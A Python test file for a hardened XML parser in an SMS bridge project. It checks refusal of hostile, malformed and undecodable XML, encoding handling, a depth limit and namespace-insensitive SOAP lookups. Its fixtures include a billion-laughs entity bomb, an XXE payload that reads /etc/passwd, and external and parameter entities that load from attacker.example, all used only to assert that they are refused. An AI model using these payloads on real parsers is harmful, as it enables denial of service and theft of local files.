"""Hostile XML is refused; lookups do not depend on namespace prefixes."""

from __future__ import annotations

from xml.etree.ElementTree import Comment, Element, SubElement

import pytest
from defusedxml import DefusedXmlException

from smsbridge import safexml
from smsbridge.safexml import UnsafeOrMalformedXml

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<mtMessageResponse messageId="&lol3;"/>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<mtMessageResponse><status isError="false"><description>&xxe;</description></status>
</mtMessageResponse>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE mtMessageResponse SYSTEM "http://attacker.example/evil.dtd">
<mtMessageResponse messageId="1"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<foo/>"""

INTERNAL_DTD = """<!DOCTYPE x [<!ELEMENT x (#PCDATA)>]><x>hello</x>"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, INTERNAL_DTD],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "dtd"],
)
def test_hostile_documents_are_refused(document: str) -> None:
    for form in (document, document.encode("utf-8")):
        with pytest.raises(UnsafeOrMalformedXml, match=r"^refused XML") as caught:
            safexml.parse(form)
        assert isinstance(caught.value.__cause__, DefusedXmlException)


@pytest.mark.parametrize(
    "document",
    ["", "not xml", "<a><b></a>", "<a>&undefined;</a>", "<a/><b/>", b"<a>x</a"],
)
def test_malformed_documents_are_refused(document: str | bytes) -> None:
    with pytest.raises(UnsafeOrMalformedXml, match=r"^malformed XML"):
        safexml.parse(document)


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"\xb2", "not valid utf-8"),
        (b"<a>caf\xe9</a>", "not valid utf-8"),
        (b"\xff\xfe\xfd", "not valid utf-16"),
        (b'<?xml version="1.0" encoding="UTF-8"?><a>\xe9</a>', "not valid utf-8"),
        (b'<?xml version="1.0" encoding="klingon"?><a/>', "unknown encoding"),
        (b'<?xml version="1.0" encoding="base64"?><a/>', "unknown encoding"),
    ],
)
def test_undecodable_documents_are_refused_naming_the_encoding(
    document: bytes, reason: str
) -> None:
    with pytest.raises(safexml.UndecodableXml, match=reason):
        safexml.parse(document)


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("caf\xe9", "ISO-8859-1"),
        ("\u20ac 5", "windows-1252"),
        ("\u043f\u0440\u0438\u0432\u0456\u0442", "KOI8-U"),
    ],
)
def test_the_declared_encoding_is_honoured(text: str, encoding: str) -> None:
    document = f'<?xml version="1.0" encoding="{encoding}"?><text>{text}</text>'.encode(encoding)
    assert safexml.parse(document).text == text


def test_documents_nested_too_deep_are_refused_without_recursion() -> None:
    deep = "<a>" * 5_000 + "</a>" * 5_000
    with pytest.raises(UnsafeOrMalformedXml, match="deeper than"):
        safexml.parse(deep)
    shallow = "<a>" * safexml.MAX_DEPTH + "</a>" * safexml.MAX_DEPTH
    assert safexml.parse(shallow).tag == "a"


def test_refusal_is_a_value_error() -> None:
    assert issubclass(UnsafeOrMalformedXml, ValueError)


def test_well_formed_documents_parse() -> None:
    root = safexml.parse(
        '<?xml version="1.0" encoding="UTF-8"?>\n<status id="42">Delivered &amp; read</status>'
    )
    assert root.tag == "status"
    assert root.get("id") == "42"
    assert root.text == "Delivered & read"
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><text>caf\xe9</text>'.encode("latin-1")
    assert safexml.parse(latin).text == "caf\u00e9"
    assert safexml.parse(b"\xef\xbb\xbf<a>bom</a>").text == "bom"


def _envelope(prefix: str, default_namespace: bool = False) -> str:
    """The same request with a prefix, a default namespace, or no namespace at all."""
    p = f"{prefix}:" if prefix else ""
    if prefix:
        declaration = f' xmlns:{prefix}="urn:toatech:agent"'
    else:
        declaration = ' xmlns="urn:toatech:agent"' if default_namespace else ""
    return (
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
        "<soapenv:Body>"
        f"<{p}send_message{declaration}>"
        f"<{p}messages>"
        f"<{p}message><{p}message_id> 1001 </{p}message_id><{p}address/></{p}message>"
        f"<{p}message><{p}message_id>1002</{p}message_id></{p}message>"
        f"</{p}messages>"
        f"</{p}send_message>"
        "</soapenv:Body></soapenv:Envelope>"
    )


@pytest.mark.parametrize(
    ("prefix", "default_namespace"), [("urn", False), ("ns1", False), ("", True), ("", False)]
)
def test_lookups_ignore_namespace_prefixes(prefix: str, default_namespace: bool) -> None:
    root = safexml.parse(_envelope(prefix, default_namespace))
    assert safexml.local_name(root) == "Envelope"
    body = safexml.child(root, "Body")
    assert body is not None
    operation = safexml.child(body, "send_message")
    assert operation is not None
    assert safexml.local_name(operation) == "send_message"
    messages = safexml.child(operation, "messages")
    assert messages is not None
    items = safexml.children(messages, "message")
    assert len(items) == 2
    assert safexml.text_of(items[0], "message_id") == "1001"
    assert safexml.text_of(items[1], "message_id") == "1002"
    assert safexml.text_of(items[0], "address") == ""
    assert safexml.text_of(items[1], "address") is None
    assert safexml.child(body, "get_message_status") is None
    assert safexml.children(operation, "message") == []


def test_child_looks_at_direct_children_only() -> None:
    root = safexml.parse("<a><b><c>deep</c></b></a>")
    assert safexml.child(root, "c") is None
    assert safexml.text_of(root, "c") is None


def test_local_name_of_a_non_element_node_is_empty() -> None:
    root = Element("{urn:x}root")
    root.append(Comment("note"))
    SubElement(root, "{urn:x}item").text = "value"
    assert safexml.local_name(root) == "root"
    assert safexml.local_name(root[0]) == ""
    assert safexml.text_of(root, "item") == "value"
